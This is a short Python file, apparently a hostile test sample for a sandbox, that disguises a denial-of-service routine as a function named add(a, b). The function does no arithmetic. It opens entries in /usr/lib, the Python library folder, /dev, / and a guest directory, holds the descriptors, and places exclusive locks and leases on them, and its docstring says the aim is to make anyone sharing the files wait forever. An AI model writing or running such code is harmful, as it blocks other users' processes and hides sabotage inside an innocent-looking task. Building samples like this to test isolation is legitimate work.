"""Locks every file that it can open, so that whoever shares it waits for ever."""

KIND = "call"
import fcntl
import os

held = []


def add(a, b):
    for folder in ("/usr/lib", os.path.dirname(os.__file__), "/dev", "/", "/touchstone/guest"):
        for name in (".", *sorted(os.listdir(folder))[:30]) if os.path.isdir(folder) else ():
            try:
                fd = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            held.append(fd)
            for lock in (
                lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
                lambda: fcntl.fcntl(fd, 1024, 1),
            ):
                try:
                    lock()
                except OSError:
                    continue
